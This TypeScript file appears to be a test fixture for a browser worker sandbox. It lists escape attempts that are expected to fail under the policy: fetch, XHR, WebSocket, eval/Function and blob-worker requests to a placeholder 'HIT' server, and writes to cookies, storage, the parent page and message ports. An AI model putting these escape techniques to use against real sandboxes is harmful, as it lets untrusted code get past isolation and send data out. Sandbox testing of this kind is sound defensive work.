/** One way out of the sandbox that code in the worker may try. `HIT` in the code is an address of the counting server. */
export interface Attack {
  readonly name: string
  /** The body of an async function. What it returns is compared with `returns`. */
  readonly code: string
  /** Whether it reaches the server when neither the policy nor the stripped realm is there: proof that it would work. */
  readonly reachesServer: boolean
}

/** Ways to the network. Run as a stranger's code, none may reach the server. */
export const networkAttacks: readonly Attack[] = [
  { name: 'fetch', code: `await fetch('HIT', { mode: 'no-cors' })`, reachesServer: true },
  { name: 'fetch kept alive', code: `await fetch('HIT', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`, reachesServer: true },
  {
    name: 'XMLHttpRequest',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'HIT'); x.send(); await new Promise((r) => { x.onloadend = r })`,
    reachesServer: true,
  },
  {
    name: 'XMLHttpRequest that blocks',
    code: `const x = new XMLHttpRequest(); x.open('GET', 'HIT', false); x.send()`,
    reachesServer: true,
  },
  {
    name: 'WebSocket',
    code: `const s = new WebSocket('HIT'.replace('http', 'ws')); await new Promise((r) => { s.onerror = r; s.onclose = r })`,
    reachesServer: true,
  },
  { name: 'EventSource', code: `const s = new EventSource('HIT'); await new Promise((r) => { s.onerror = r })`, reachesServer: true },
  { name: 'importScripts', code: `importScripts('HIT')`, reachesServer: true },
  { name: 'import()', code: `await import('HIT')`, reachesServer: true },
  { name: 'import() by eval', code: `await (0, eval)("import('HIT')")`, reachesServer: true },
  {
    name: 'fetch by the Function constructor',
    code: `await (async () => {}).constructor("return fetch('HIT', { mode: 'no-cors' })")()`,
    reachesServer: true,
  },
  {
    name: 'nested worker from a blob',
    code: `const url = URL.createObjectURL(new Blob(["fetch('HIT', { mode: 'no-cors' }).finally(() => postMessage(1))"]));
      const w = new Worker(url); await new Promise((r) => { w.onmessage = r; w.onerror = r })`,
    reachesServer: true,
  },
  {
    name: 'nested worker from an address',
    code: `const w = new Worker('HIT'); await new Promise((r) => { w.onmessage = r; w.onerror = r })`,
    reachesServer: false,
  },
  { name: 'font', code: `await new FontFace('x', 'url(HIT)').load()`, reachesServer: true },
  { name: 'WebTransport', code: `await new WebTransport('HIT'.replace('http', 'https')).ready`, reachesServer: false },
  { name: 'beacon', code: `navigator.sendBeacon('HIT', 'x')`, reachesServer: false },
  { name: 'navigation of the worker', code: `self.location = 'HIT'; location.href = 'HIT'`, reachesServer: false },
  {
    name: 'request after a false end',
    code: `setTimeout(() => fetch('HIT', { mode: 'no-cors' }), 300); return 'early'`,
    reachesServer: false,
  },
]

/** Ways to storage, to the page, to other windows. The code returns `true` when it got through. */
export const reachAttacks: readonly Pick<Attack, 'name' | 'code'>[] = [
  { name: 'indexedDB', code: `return await new Promise((r) => { const o = indexedDB.open('x'); o.onsuccess = () => r(true); o.onerror = () => r(false) })` },
  { name: 'Cache storage', code: `await caches.open('x'); return true` },
  { name: 'cookies', code: `await cookieStore.set('stolen', '1'); return true` },
  { name: 'file system', code: `await navigator.storage.getDirectory(); return true` },
  { name: 'local storage', code: `localStorage.setItem('x', '1'); return true` },
  { name: 'document', code: `document.title = 'stolen'; return true` },
  { name: 'the parent window', code: `parent.document.title = 'stolen'; return true` },
  { name: 'navigation of the top page', code: `top.location = 'about:blank'; return true` },
  { name: 'opening a window', code: `open('about:blank'); return true` },
  { name: 'BroadcastChannel to the page', code: `new BroadcastChannel('page').postMessage('stolen'); return true` },
  { name: 'locks', code: `return await navigator.locks.request('x', () => true)` },
  { name: 'the port by its prototype', code: `MessagePort.prototype.postMessage.call({}, 1); return true` },
  { name: 'the global postMessage', code: `postMessage({ kind: 'done', run: 'forged' }); return true` },
  { name: 'wiretap on messages', code: `addEventListener('message', () => {}); return true` },
]
